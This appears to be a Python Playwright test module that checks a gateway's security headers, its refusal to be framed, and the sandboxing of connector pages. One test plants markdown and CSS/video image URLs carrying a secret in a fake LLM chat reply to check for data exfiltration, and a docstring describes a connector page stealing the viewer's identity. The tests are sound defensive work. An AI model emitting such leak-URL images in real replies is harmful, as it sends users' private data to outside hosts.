"""What a browser may do with the gateway's pages, in Chromium against a real irisgate:

- every `/ui/` and `/chat/` answer (pages, redirects, static files, 404s, refusals) carries
  the pages' Content-Security-Policy, `X-Frame-Options: DENY` and `nosniff`;
- no page can be framed by another site;
- every page runs under that policy without a single violation (no inline script left);
- a chat reply's markdown image on another host makes the browser send nothing there;
- a connector's HTML answer does not run as a page of the gateway.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx2
import pytest
from aiohttp import web
from conftest import ADMIN, USER, api, context_as, dashboard_config, identity_headers
from playwright.sync_api import Browser, Error, Page, expect

from irisgate.testing import FakeHttpApi, FakeLLM
from irisgate.testing.fake_server import ServerThread
from irisgate.testing.server import IrisgateServer
from irisgate.web.headers import POLICY
from irisgate.web.nav import PAGES

# one of the suite's longest modules (~51 s on a 2-core machine): started first
pytestmark = pytest.mark.early  # (conftest.py)

SECRET = "the-merger-codename-is-bluebird"
#: records where a page sent each violation of its Content-Security-Policy
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeHttpApi]:
    """The connector's API; also the "other host" a reply's image points at."""
    with FakeHttpApi() as fake:
        yield fake


@pytest.fixture(scope="module")
def gateway(
    fake_llm: FakeLLM, upstream: FakeHttpApi, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[IrisgateServer]:
    config = json.loads(dashboard_config(fake_llm.base_url).split("\n", 1)[1])
    config["connectors"] = {"servers": {"site": {"protocol": "http", "url": upstream.base_url}}}
    config["grants"].append(
        {"src": ["*"], "app": {"tailscale.com/cap/aperture": [{"connectors": ["site"]}]}}
    )
    server = IrisgateServer(
        json.dumps(config),
        data_dir=tmp_path_factory.mktemp("irisgate-headers"),
        identity="serve",
        env={"IRISGATE_ALLOW_LOCAL_CONNECTORS": "true"},
    )
    with server:
        yield server


@pytest.fixture(autouse=True)
def fresh_fake(fake_llm: FakeLLM) -> Iterator[FakeLLM]:
    fake_llm.reset()
    yield fake_llm
    fake_llm.reset()


def assert_page_headers(response: httpx2.Response) -> None:
    where = f"{response.request.method} {response.request.url} ({response.status_code})"
    assert response.headers.get_list("content-security-policy") == [POLICY], where
    assert response.headers.get_list("x-frame-options") == ["DENY"], where
    assert response.headers.get_list("x-content-type-options") == ["nosniff"], where


def test_the_policy_says_what_it_promises() -> None:
    directives = dict(d.split(" ", 1) for d in POLICY.split("; "))
    assert directives["script-src"] == "'self'"
    assert directives["img-src"] == "'self' data: blob:"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["connect-src"] == "'self'"


def test_every_answer_on_page_paths_carries_the_headers(gateway: IrisgateServer) -> None:
    pages = [p.path for p in PAGES.values()]
    paths = [
        *pages,
        "/ui",
        "/ui/",
        "/ui/quotas",
        f"/ui/dashboard/{USER}",
        "/ui/no-such-page",
        "/ui/static/style.css",
        "/ui/static/start.js",
        "/ui/static/theme.js",
        "/ui/static/vendor/marked.esm.js",
        "/ui/static/no-such-file.js",
        "/chat",
        "/chat/",
        "/chat/no-such-page",
    ]
    statuses: dict[str, set[int]] = {}
    for login in (ADMIN, USER):
        with api(gateway, login) as client:
            for path in paths:
                response = client.get(path)
                assert_page_headers(response)
                statuses.setdefault(path, set()).add(response.status_code)
    assert statuses["/ui/no-such-page"] == {404}
    assert statuses["/ui/static/no-such-file.js"] == {404}
    assert statuses["/ui/admin/settings"] == {200, 403}  # the admin's page, the user's refusal
    assert statuses["/ui"] == {307}
    with httpx2.Client(base_url=gateway.url, timeout=30) as anonymous:
        refusals = [
            anonymous.get("/ui/dashboard"),  # no identity: the access-denied page
            anonymous.get("/chat/"),
            # a form on another site posting to a page: refused before any route
            anonymous.post("/ui/dashboard", headers={"origin": "https://evil.example"}),
            # a name the gateway does not answer to (DNS rebinding)
            anonymous.get("/ui/dashboard", headers={"host": "evil.example"}),
            # the page an OAuth server sends the browser back to, showing its error
            anonymous.get("/aperture/auth/site/callback", params={"error": "access_denied"}),
        ]
    assert [r.status_code for r in refusals] == [403, 403, 403, 403, 400]
    for response in refusals:
        assert_page_headers(response)


def test_api_answers_are_not_pages(gateway: IrisgateServer) -> None:
    with api(gateway, USER) as client:
        response = client.get("/api/chat/conversations")
    assert response.status_code == 200
    assert "x-frame-options" not in response.headers


def open_watched(page: Page, url: str) -> list[str]:
    """Load `url`, let its modules finish, return the policy violations and script errors."""
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(f"pageerror {exc}"))
    page.goto(url)
    page.wait_for_load_state("networkidle")
    violations: list[str] = page.evaluate("window.__violations")
    return violations + errors


def test_every_page_runs_within_the_policy(gateway: IrisgateServer, browser: Browser) -> None:
    """As an admin, who sees every page (a user's refusals carry no script)."""
    login = ADMIN
    context = context_as(browser, login)
    context.add_init_script(WATCH_VIOLATIONS)
    page = context.new_page()
    try:
        for p in PAGES.values():
            assert open_watched(page, gateway.url + p.path) == [], p.path
        # the modules started from data attributes really ran
        page.goto(gateway.url + "/ui/dashboard")
        expect(page.locator("#signed-in")).to_have_text(login)
        page.goto(gateway.url + "/ui/admin/api-docs")
        expect(page.locator("details.endpoint").first).to_be_visible()
    finally:
        context.close()


@pytest.fixture
def other_site(gateway: IrisgateServer) -> Iterator[str]:
    """A page on another origin (a real loopback server) that frames the gateway's pages."""

    async def framing(request: web.Request) -> web.Response:
        frames = "".join(f'<iframe src="{gateway.url}{p}"></iframe>' for p in FRAMED)
        return web.Response(text=frames, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", framing)
    server = ServerThread("other-site")
    _, port = server.start(app, lambda r: web.TCPSite(r, "127.0.0.1", 0))[:2]
    yield f"http://localhost:{port}/"  # another origin than http://127.0.0.1:<gateway>
    server.stop()


FRAMED = ("/ui/dashboard", "/chat/", "/ui/static/style.css")


def test_pages_cannot_be_framed(gateway: IrisgateServer, browser: Browser, other_site: str) -> None:
    context = context_as(browser, USER)
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda r: answered.append(r.url))
    try:
        page.goto(other_site)
        page.wait_for_load_state("networkidle")
        framed = page.frames[1:]
        urls = [f.url for f in framed]
    finally:
        context.close()
    # the gateway answered each frame; Chromium refused to show any of them
    assert [u for u in answered if u.startswith(gateway.url)] == [gateway.url + p for p in FRAMED]
    assert urls == ["chrome-error://chromewebdata/"] * len(FRAMED)


def test_a_replys_remote_image_sends_nothing_to_that_host(
    gateway: IrisgateServer, browser: Browser, fake_llm: FakeLLM, upstream: FakeHttpApi
) -> None:
    leak = f"{upstream.base_url}/leak?q={SECRET}"
    fake_llm.reply_text = (
        f"Here you go: ![x]({leak}) and ![local](/ui/static/none.png)\n\n"
        # HTML that markdown passes and the sanitizer keeps: fetches by CSS and media
        f"<span style=\"background-image: url('{leak}&via=style')\">styled</span> "
        f'<video poster="{leak}&via=poster"></video>'
    )
    context = context_as(browser, USER)
    context.add_init_script(WATCH_VIOLATIONS)
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda r: answered.append(r.url))
    count = len(upstream.requests)
    try:
        page.goto(gateway.url + "/chat/")
        expect(page.locator("body")).to_have_attribute("data-ready", "true")
        page.fill("#model-search", "gpt-4o-mini")
        page.select_option("#model-select", index=0)
        page.fill("#prompt", f"remember {SECRET}")
        page.click("#send")
        answer = page.locator(".msg.assistant").last
        expect(answer).to_contain_text("image: x")  # the remote image is a link, unloaded
        expect(page.locator("#send")).to_be_visible()
        expect(answer.locator(f'a[href="{leak}"]')).to_have_count(1)
        # and were it in the page as an <img>, the policy would refuse to fetch it
        loaded = page.evaluate(
            """(url) => new Promise((done) => {
                const img = new Image();
                img.onload = () => done(true);
                img.onerror = () => done(false);
                img.src = url;
                document.body.append(img);
            })""",
            leak,
        )
        assert loaded is False
        violations: list[str] = page.evaluate("window.__violations")
    finally:
        context.close()
    assert f"img-src {leak}" in violations
    assert all(v.startswith(f"img-src {upstream.base_url}/leak") for v in violations), violations
    assert not [u for u in answered if u.startswith(upstream.base_url)]
    assert len(upstream.requests) == count  # the other host never heard of the secret


def test_a_connectors_html_does_not_run_as_a_gateway_page(
    gateway: IrisgateServer, browser: Browser, upstream: FakeHttpApi
) -> None:
    """The upstream's page would read /api/whoami as the viewer and send it away; Chromium
    downloads it instead of rendering it, and nothing of the page runs."""
    context = context_as(browser, USER, accept_downloads=True)
    page = context.new_page()
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    url = gateway.url + "/v1/connectors/site/page.html"
    try:
        with (
            page.expect_download() as download,
            pytest.raises(Error, match=r"Download is starting|ERR_ABORTED"),
        ):
            page.goto(url)  # a navigation that turns into a download never loads a page
        assert download.value.url == url
    finally:
        context.close()
    assert requested == [url]
    assert not [r for r in upstream.requests if r.path == "/stolen"]


def test_connector_answers_carry_the_sandbox(gateway: IrisgateServer) -> None:
    headers: dict[str, Any] = identity_headers(USER)
    with httpx2.Client(base_url=gateway.url, headers=headers, timeout=30) as client:
        response = client.get("/v1/connectors/site/page.html")
    assert response.headers["content-security-policy"] == "sandbox"
    assert response.headers["content-disposition"] == "attachment"
